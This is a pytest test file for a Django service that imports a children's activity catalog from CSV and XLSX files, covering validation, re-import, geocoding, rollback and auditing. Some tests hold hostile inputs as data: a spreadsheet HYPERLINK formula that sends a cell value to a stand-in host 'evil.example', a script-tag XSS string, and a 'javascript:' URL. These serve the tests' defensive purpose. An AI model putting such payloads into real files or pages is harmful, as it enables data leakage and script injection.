"""catalog_import end to end on the database: what gets written, what is refused, what is reported."""

from datetime import time

import pytest
from django.db import IntegrityError

from kruzhok.catalog.models import Activity, Category, Group, Organization, ScheduleSlot, Venue
from kruzhok.catalog.tests import factories
from kruzhok.core.models import AuditLog
from kruzhok.imports.services import catalog_import

from .conftest import row

pytestmark = pytest.mark.django_db


def run(path, **kw):
    kw.setdefault("source", "dept")
    kw.setdefault("dry_run", False)
    return catalog_import(path_or_file=path, **kw)


def counts():
    return (
        Activity.objects.count(),
        Organization.objects.count(),
        Venue.objects.count(),
        Group.objects.count(),
        ScheduleSlot.objects.count(),
        AuditLog.objects.count(),
    )


def messages(report):
    return [str(p) for p in report.errors]


# --- happy paths -----------------------------------------------------------------------


def test_csv_import_creates_activity_with_organization_venue_categories_and_schedule(write, okrugs):
    path = write(
        "c.csv",
        [
            row(
                external_id="a1",
                category="football; Мини-футбол",
                price_rub="1 500 руб",
                ovz="да",
                enrollment="лист ожидания",
            )
        ],
    )
    report = run(path)
    assert report.ok, report.lines()
    assert (report.created, report.updated, report.unchanged) == (1, 0, 0)
    activity = Activity.objects.get(source="dept", external_id="a1")
    assert activity.direction.slug == "sport"
    assert activity.price_rub == 1500
    assert activity.ovz is True
    assert activity.enrollment == "waitlist"
    assert activity.slug.startswith("futbolnaya-sektsiya")
    assert activity.organization.inn == "5501234567"
    assert activity.venue.address == "улица Лукашевича, 10"
    assert (activity.venue.lat, activity.venue.lon) == (54.9947, 73.2739)
    assert activity.venue.district == okrugs["Кировский"]  # derived from the coordinates
    assert "football" in set(activity.categories.values_list("slug", flat=True))
    slots = list(
        ScheduleSlot.objects.filter(group__activity=activity).values_list("weekday", "starts_at", "ends_at")
    )
    assert slots == [(0, time(15), time(16, 30)), (2, time(15), time(16, 30))]


def test_xlsx_import_reads_numbers_and_text_cells(write, okrugs):
    path = write(
        "c.xlsx", [row(external_id="x1", age_min=5, age_max=9, lat=54.9947, lon=73.2739, inn=5501234567)]
    )
    report = run(path)
    assert report.ok, report.lines()
    activity = Activity.objects.get(external_id="x1")
    assert (activity.age_min, activity.age_max) == (5, 9)
    assert activity.organization.inn == "5501234567"


def test_headers_are_matched_ignoring_case_spaces_and_bom(write, okrugs):
    from .conftest import COLUMNS, csv_bytes

    columns = [f"  {name.upper()} " for name in COLUMNS]
    data = csv_bytes([row()], columns=COLUMNS).split(b"\r\n", 1)[1]
    path = write("c.csv", "\ufeff".encode() + ",".join(columns).encode() + b"\r\n" + data)
    report = run(path)
    assert report.ok, report.lines()
    assert report.created == 1


def test_cp1251_semicolon_file_imports_russian_text_correctly(write, okrugs):
    from .conftest import csv_bytes

    data = csv_bytes(
        [row(title="Изостудия «Ёжик»", direction="Художественная", category="Рисование")],
        delimiter=";",
        encoding="cp1251",
    )
    report = run(write("c.csv", data))
    assert report.ok, report.lines()
    activity = Activity.objects.get()
    assert activity.title == "Изостудия «Ёжик»"
    assert activity.direction.slug == "arts"
    assert any("Windows-1251" in str(w) for w in report.warnings)


def test_direction_by_russian_name_is_case_and_yo_insensitive(write, okrugs):
    rows = [
        row(direction="ХУДОЖЕСТВЕННАЯ", category=""),
        row(direction="физкультурно-спортивное", category=""),
        row(direction="естественнонаучная направленность", category=""),
    ]
    report = run(write("c.csv", rows))
    assert report.ok, report.lines()
    assert sorted(Activity.objects.values_list("direction__slug", flat=True)) == ["arts", "science", "sport"]


def test_category_matches_slug_russian_english_and_synonym(write, okrugs):
    chess = Category.objects.get(slug="chess")
    synonym = chess.synonyms[0]
    rows = [
        row(external_id="s", category="chess", direction="social"),
        row(external_id="r", category=chess.name_ru.upper(), direction="social"),
        row(external_id="e", category=chess.name_en, direction="social"),
        row(external_id="y", category=synonym, direction="social"),
    ]
    report = run(write("c.csv", rows))
    assert report.ok, report.lines()
    for activity in Activity.objects.all():
        assert list(activity.categories.values_list("slug", flat=True)) == ["chess"], activity.external_id


def test_unknown_category_becomes_a_tag_and_a_warning_not_an_error(write, okrugs):
    report = run(write("c.csv", [row(external_id="q", category="football; Квиллинг")]))
    assert report.ok
    activity = Activity.objects.get()
    assert activity.tags == ["Квиллинг"]
    assert list(activity.categories.values_list("slug", flat=True)) == ["football"]
    assert [str(w) for w in report.warnings] == [
        "строка 2, category: категории «Квиллинг» нет в справочнике — сохранена как метка"
    ]


def test_formula_and_script_text_are_stored_as_plain_text(write, okrugs):
    title = '=HYPERLINK("http://evil.example/?x="&A1,"Жми")'
    description = "<script>alert('x')</script> & <b>жирный</b>"
    report = run(write("c.csv", [row(title=title, description=description)]))
    assert report.ok
    activity = Activity.objects.get()
    assert activity.title == title
    assert activity.description == description


# --- re-import -------------------------------------------------------------------------


def test_reimport_updates_in_place_and_counts_created_updated_unchanged(write, okrugs):
    rows = [row(external_id=f"r{i}", schedule="Пн 10:00-11:00") for i in range(5)]
    assert run(write("c.csv", rows)).created == 5
    first_ids = dict(Activity.objects.values_list("external_id", "id"))

    again = run(write("c.csv", rows))
    assert (again.created, again.updated, again.unchanged) == (0, 0, 5)

    rows[0]["price_rub"] = "2500"
    rows[1]["schedule"] = "Вт,Чт 17:00-18:30"
    rows[2]["category"] = "swimming"
    rows.append(row(external_id="r-new"))
    report = run(write("c.csv", rows))
    assert (report.created, report.updated, report.unchanged) == (1, 3, 2)
    assert Activity.objects.count() == 6
    assert dict(Activity.objects.exclude(external_id="r-new").values_list("external_id", "id")) == first_ids
    assert Activity.objects.get(external_id="r0").price_rub == 2500
    r1 = Activity.objects.get(external_id="r1")
    assert r1.groups.count() == 1
    assert sorted(ScheduleSlot.objects.filter(group__activity=r1).values_list("weekday", flat=True)) == [1, 3]
    assert list(Activity.objects.get(external_id="r2").categories.values_list("slug", flat=True)) == [
        "swimming"
    ]
    # Organizations and venues are matched, not duplicated.
    assert Organization.objects.count() == 1
    assert Venue.objects.count() == 1


def test_same_external_id_under_another_source_is_a_different_activity(write, okrugs):
    path = write("c.csv", [row(external_id="1")])
    run(path, source="education")
    report = run(path, source="culture")
    assert report.created == 1
    assert Activity.objects.filter(external_id="1").count() == 2


def test_a_partial_file_does_not_blank_columns_it_does_not_have(write, okrugs):
    run(write("full.csv", [row(external_id="p", price_rub="3000", schedule="Сб 10:00-11:00")]))
    columns = ["external_id", "title", "direction", "organization", "address", "age_min", "age_max"]
    report = run(write("part.csv", [row(external_id="p", age_max="14")], columns=columns))
    assert report.ok, report.lines()
    assert report.updated == 1
    activity = Activity.objects.get(external_id="p")
    assert (activity.age_max, activity.price_rub) == (14, 3000)
    assert activity.groups.get().slots.count() == 1


def test_organization_is_matched_by_inn_then_by_folded_name(write, okrugs):
    by_inn = factories.organization(name="МБОУ ДО «ЦТТ»", inn="5500000001")
    by_name = factories.organization(name="Дом творчества «Ёлочка»")
    rows = [
        row(organization="Центр технического творчества", inn="5500000001"),
        row(organization="дом  творчества «елочка»", inn=""),
        row(organization="Дом творчества «Ёлочка»", inn="550000000212"),
    ]
    report = run(write("c.csv", rows))
    assert report.ok, report.lines()
    assert report.organizations_created == 0
    orgs = list(Activity.objects.order_by("id").values_list("organization_id", flat=True))
    assert orgs == [by_inn.pk, by_name.pk, by_name.pk]
    by_name.refresh_from_db()
    assert by_name.inn == "550000000212"  # the known-by-name organization learns its INN


def test_new_organization_gets_kind_and_slug(write, okrugs):
    report = run(write("c.csv", [row(organization="Студия «Акварель»", organization_kind="частная", inn="")]))
    assert report.organizations_created == 1
    org = Organization.objects.get(name="Студия «Акварель»")
    assert org.kind == "private"
    assert org.slug == "studiya-akvarel"


# --- locations -------------------------------------------------------------------------


def test_address_without_coordinates_is_geocoded_with_the_gazetteer(write, okrugs):
    report = run(write("c.csv", [row(address="ул. Лукашевича, 10", lat="", lon="")]))
    assert report.ok
    venue = Venue.objects.get()
    assert venue.lat == pytest.approx(54.9958, abs=0.01)
    assert venue.lon == pytest.approx(73.2718, abs=0.01)
    assert venue.district == okrugs["Кировский"]
    assert report.warnings == []


def test_address_that_cannot_be_geocoded_is_kept_without_a_point_and_warned(write, okrugs):
    report = run(write("c.csv", [row(address="Несуществующая улица, 5", lat="", lon="")]))
    assert report.ok
    venue = Venue.objects.get()
    assert (venue.lat, venue.lon, venue.district) == (None, None, None)
    assert len(report.warnings) == 1
    assert report.warnings[0].field == "address"
    assert "не найден на карте" in report.warnings[0].message


def test_district_column_names_the_okrug(write, okrugs):
    report = run(
        write("c.csv", [row(district="Советский округ", lat="", lon="", address="Несуществующая улица, 5")])
    )
    assert report.ok, report.lines()
    assert Venue.objects.get().district == okrugs["Советский"]


def test_coordinates_outside_any_known_city_are_kept_without_a_district(write, okrugs):
    report = run(write("c.csv", [row(lat="55.7558", lon="37.6173", address="Москва, Тверская улица, 1")]))
    assert report.ok
    venue = Venue.objects.get()
    assert (venue.lat, venue.district) == (55.7558, None)


# --- refusals: nothing is written ------------------------------------------------------


@pytest.mark.parametrize(
    ("overrides", "expected"),
    [
        ({"age_max": "19"}, "строка 2, age_max: возраст должен быть целым числом от 0 до 18, а не «19»"),
        ({"age_min": "семь"}, "строка 2, age_min: возраст должен быть целым числом от 0 до 18, а не «семь»"),
        ({"age_min": "7.5"}, "строка 2, age_min: возраст должен быть целым числом от 0 до 18, а не «7.5»"),
        ({"age_min": "-1"}, "строка 2, age_min: возраст должен быть целым числом от 0 до 18, а не «-1»"),
        ({"age_min": "12", "age_max": "7"}, "строка 2, age_max: возраст «до» (7) меньше возраста «от» (12)"),
        ({"direction": "магия"}, "строка 2, direction: неизвестная направленность «магия»"),
        ({"lat": "999"}, "строка 2, lat: широта должна быть числом от -90 до 90"),
        ({"lon": "abc"}, "строка 2, lon: долгота должна быть числом от -180 до 180"),
        ({"lat": "", "lon": "73.2"}, "строка 2, lat: координаты указываются парой"),
        ({"inn": "12345"}, "строка 2, inn: ИНН — это 10 цифр"),
        ({"price_rub": "-100"}, "строка 2, price_rub: цена — целое число рублей"),
        ({"price_rub": "договорная"}, "строка 2, price_rub: цена — целое число рублей"),
        ({"ovz": "может быть"}, "строка 2, ovz: ожидается «да» или «нет»"),
        ({"enrollment": "всегда"}, "строка 2, enrollment: набор «всегда» не понят"),
        ({"organization_kind": "секта"}, "строка 2, organization_kind: вид организации «секта» не понят"),
        ({"email": "not-an-email"}, "строка 2, email: «not-an-email» не похоже на адрес эл. почты"),
        (
            {"website": "javascript:alert(1)"},
            "строка 2, website: «javascript:alert(1)» не похоже на адрес сайта",
        ),
        ({"title": ""}, "строка 2, title: обязательное поле пусто"),
        (
            {"title": "Ф" * 301},
            "строка 2, title: слишком длинный текст: 301 символов, допустимо не больше 300",
        ),
        ({"schedule": "Пн 25:00-26:00"}, "строка 2, schedule: время «25:00-26:00» не существует"),
        (
            {"schedule": "Ср 18:00-17:00"},
            "строка 2, schedule: в «18:00-17:00» конец занятия должен быть позже начала",
        ),
        ({"district": "Марсианский"}, "строка 2, district: неизвестный округ «Марсианский»"),
    ],
)
def test_row_errors_name_row_and_column_and_nothing_is_written(write, okrugs, overrides, expected):
    before = counts()
    report = run(write("c.csv", [row(**overrides)]))
    assert not report.ok
    assert any(line.startswith(expected) for line in messages(report)), messages(report)
    assert counts() == before


def test_all_errors_of_all_rows_are_reported_at_once(write, okrugs):
    rows = [row(), row(age_min="x"), row(), row(direction="?", lat="999")]
    report = run(write("c.csv", rows))
    assert [(p.row, p.field) for p in report.errors] == [(3, "age_min"), (5, "direction"), (5, "lat")]
    assert Activity.objects.count() == 0
    assert "c.csv: ошибок: 3, ничего не записано" in report.summary()


def test_duplicate_external_id_is_an_error_on_the_second_row_naming_the_first(write, okrugs):
    report = run(write("c.csv", [row(external_id="dup"), row(), row(external_id="dup")]))
    assert messages(report) == [
        "строка 4, external_id: external_id «dup» уже встречается в строке 2; у каждой записи свой id"
    ]
    assert Activity.objects.count() == 0


def test_missing_required_columns_is_one_clear_error(write, okrugs):
    columns = ["external_id", "title", "organization", "address"]
    report = run(write("c.csv", [row()], columns=columns))
    assert len(report.errors) == 1
    message = str(report.errors[0])
    assert "нет обязательных столбцов: direction, age_min, age_max" in message
    assert Activity.objects.count() == 0


def test_unknown_columns_are_warned_and_ignored(write, okrugs):
    report = run(write("c.csv", [row() | {"комментарий": "x"}], columns=[*row().keys(), "комментарий"]))
    assert report.ok
    assert "столбец «комментарий» не из формата каталога — пропущен" in [str(w) for w in report.warnings]


def test_header_only_file_is_a_clear_error(write, okrugs):
    report = run(write("c.csv", []))
    assert messages(report) == ["в файле только заголовок и ни одной строки с данными — добавьте строки"]


def test_empty_and_garbage_files_are_refused(write, okrugs):
    import os

    import openpyxl

    blank = write("blank.xlsx", b"")
    openpyxl.Workbook().save(blank)
    assert "нет заголовков" in messages(run(blank))[0]

    assert "пуст" in messages(run(write("e.csv", b"")))[0]
    assert "не текстовый" in messages(run(write("g.csv", os.urandom(2048) + b"\x00")))[0]
    assert "XLSX" in messages(run(write("g.xlsx", b"PK\x03\x04" + os.urandom(2048))))[0]


def test_an_unquoted_delimiter_inside_a_value_is_a_row_error(write, okrugs):
    good = ",".join(row(external_id="ok").values())
    bad = ",".join(row(external_id="bad").values()) + ",лишнее"
    path = write(
        "c.csv",
        (
            ",".join(row().keys())
            + "\n"
            + good.replace("улица Лукашевича, 10", "Лукашевича 10")
            + "\n"
            + bad
            + "\n"
        ).encode(),
    )
    report = run(path)
    assert any("больше значений, чем столбцов" in m for m in messages(report))


def test_database_failure_during_the_write_rolls_everything_back(write, okrugs, monkeypatch):
    def explode(*args, **kwargs):
        raise IntegrityError("simulated")

    monkeypatch.setattr(ScheduleSlot.objects, "bulk_create", explode)
    before = counts()
    report = run(write("c.csv", [row(), row(organization="Другая организация", inn="")]))
    assert not report.ok
    assert "ничего не записано" in messages(report)[0]
    assert counts() == before


# --- dry run, audit, speed -------------------------------------------------------------


def test_dry_run_reports_counts_and_warnings_but_writes_nothing(write, okrugs):
    before = counts()
    report = run(write("c.csv", [row(category="Квиллинг"), row()]), dry_run=True)
    assert report.ok
    assert report.created == 2
    assert report.warning_count == 1
    assert "проверка без записи" in report.summary()
    assert counts() == before


def test_one_audit_entry_per_import_with_the_counts(write, okrugs, editor):
    run(write("c.csv", [row(), row(), row()]), actor=editor)
    entry = AuditLog.objects.get(action="imports.catalog.imported")
    assert entry.actor == editor
    assert entry.object_id == "dept"
    assert entry.data["created"] == 3
    assert entry.data["file"] == "c.csv"


def test_query_count_does_not_grow_with_the_number_of_rows(write, okrugs, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def queries(n, name):
        rows = [
            row(
                external_id=f"{name}{i}",
                organization=f"Орг {name}{i % 7}",
                inn="",
                address=f"улица Лукашевича, {i % 11}",
            )
            for i in range(n)
        ]
        path = write(f"{name}.csv", rows)
        with CaptureQueriesContext(connection) as ctx:
            assert run(path).ok
        with CaptureQueriesContext(connection) as again:
            assert run(path).unchanged == n
        return len(ctx), len(again)

    small = queries(20, "a")
    large = queries(400, "b")
    # Inserts are batched (500 per statement), so 20 and 400 rows cost the same number of queries.
    assert large[0] <= small[0] + 5
    assert large[1] <= small[1] + 5
